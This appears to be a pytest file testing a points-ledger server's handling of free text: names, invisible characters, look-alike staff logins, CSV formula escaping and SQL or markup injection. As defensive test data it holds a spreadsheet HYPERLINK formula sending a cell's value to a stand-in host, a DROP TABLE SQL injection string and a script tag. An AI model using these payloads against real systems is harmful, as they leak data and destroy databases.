"""Free text: real names are accepted as typed, invisible characters never reach the ledger,
look-alike logins are no staff account, and a CSV never hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid
from pathlib import Path

import pytest
from pydantic import ValidationError

from server.api.schemas import ApprovalRequest, ConversionRequest, GrantRequestBody
from server.cli.settlement import write_csv
from server.ledger.bulk import ImportReport, Row, RowStatus, write_report
from server.ledger.settlement import Settlement, ShopLine, SupporterLine
from server.text import clean
from tests.unit.server.points_world import PointsWorld, grant_op
from tests.unit.server.staff_world import PIN_YAMADA, make_staff_world

REAL_NAMES = ["O'Brien", "髙橋 一郎", "Ｔａｎａｋａ", 'Jo "JJ" Lee', "Smith; Jones", "A<B>C"]


def _grant_body(login: str = "yamada", note: str | None = None) -> dict[str, object]:
    return {
        "id": str(uuid.uuid4()),
        "session_id": str(uuid.uuid4()),
        "points": 10,
        "reason": "community",
        "staff_login": login,
        "staff_code": PIN_YAMADA,
        "note": note,
    }


@pytest.mark.parametrize("name", REAL_NAMES)
def test_a_real_name_is_accepted_as_typed(name: str) -> None:
    assert GrantRequestBody.model_validate(_grant_body(note=name)).note == name
    assert clean(name) == name  # as a staff account's display name is stored
    conversion = {"id": "x", "mykey_id": "ABCD2345", "points": 1, "reference": name}
    assert ConversionRequest.model_validate(conversion).reference == name


@pytest.mark.parametrize(
    ("typed", "stored"),
    [("Tanaka\u200b", "Tanaka"), ("\u202eakanaT", "akanaT"), ("山田\u00a0 花子\t", "山田 花子")],
)
def test_invisible_characters_are_removed_before_the_text_is_stored(
    typed: str, stored: str
) -> None:
    assert GrantRequestBody.model_validate(_grant_body(note=typed)).note == stored
    assert clean(typed) == stored


@pytest.mark.parametrize(
    "login", ["\u200b", " \u2060 ", "\x00\x1f", "yamada\u200b", "ｙａｍａｄａ"]
)
def test_a_login_of_invisible_or_look_alike_characters_is_refused(login: str) -> None:
    with pytest.raises(ValidationError):
        GrantRequestBody.model_validate(_grant_body(login))
    with pytest.raises(ValidationError):
        ApprovalRequest.model_validate(
            {"id": "x", "staff_login": login, "staff_code": PIN_YAMADA, "approve": True}
        )


@pytest.mark.parametrize("look_alike", ["yamada\u200b", "ｙａｍａｄａ", "YAMADA", "yam\u00adada"])
def test_a_look_alike_of_the_granting_login_cannot_approve(
    points: PointsWorld, look_alike: str
) -> None:
    staff = make_staff_world(points)
    holder, _ = points.holder(1)
    held = staff.grant(points.granter, holder, 20_000)
    assert held.json()["status"] == "awaiting_approval", held.text
    decision = staff.decide(staff.second, held.json()["id"], look_alike, code=PIN_YAMADA)
    assert decision.status_code == 400 and decision.json()["error"] == "malformed"
    waiting = points.granter.get("/v1/grants?status=awaiting_approval").json()
    assert [g["id"] for g in waiting] == [held.json()["id"]]  # nothing changed


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+81-3-1234", "-2+3", "@SUM(A1:A9)"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_grant_import_report_echoes_no_formula(formula: str) -> None:
    row = Row(2, formula, formula, "community", None, None, status=RowStatus.ERROR, message=formula)
    out = io.StringIO()
    write_report(ImportReport(rows=[row]), out)
    echoed = [cell for cell in _cells(out.getvalue()) if formula in cell]
    assert len(echoed) == 3 and all(cell == "'" + formula for cell in echoed)


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_settlement_csv_writes_no_formula(formula: str, tmp_path: Path) -> None:
    settlement = Settlement("14130", formula, dt.date(2026, 11, 1), dt.date(2026, 11, 30))
    settlement.shops.append(ShopLine("S1", formula, payments=500, refunds=600))
    settlement.supporters.append(SupporterLine("C1", formula, assigned=100))
    path = tmp_path / "s.csv"
    write_csv(settlement, path)
    cells = _cells(path.read_text(encoding="utf-8-sig"))
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@")) or cell == formula]
    assert "-100" in cells  # a negative amount stays a number


SQL = "' OR '1'='1'; DROP TABLE mykeys; --"
SCRIPT = '<script>alert("x")</script>'


def test_injection_strings_in_free_text_are_stored_as_text(points: PointsWorld) -> None:
    """Free text is data: a note or reference that looks like SQL or markup is taken and
    read back literally (queries are parameterised; templates escape), and nothing else moves."""
    make_staff_world(points)
    holder, mykey_id = points.holder(1)
    response = points.granter.post(
        "/v1/grants",
        {
            "id": str(uuid.uuid4()),
            "session_id": points.session_id(points.granter, holder, grant_op(20_000, "community")),
            "points": 20_000,
            "reason": "community",
            "staff_login": "yamada",
            "staff_code": PIN_YAMADA,
            "note": SQL,
        },
    )
    assert response.status_code == 200, response.text
    assert response.json()["requested_by"] == "yamada"
    converted = points.world.client.post(
        "/v1/conversions",
        json={"id": str(uuid.uuid4()), "mykey_id": mykey_id, "points": 5, "reference": SCRIPT},
        headers={"Authorization": f"Bearer {points.supporter_key}"},
    )
    assert converted.status_code == 200, converted.text
    assert points.mykey_pk(mykey_id)  # the mykeys table is still there
    assert points.problems() == []
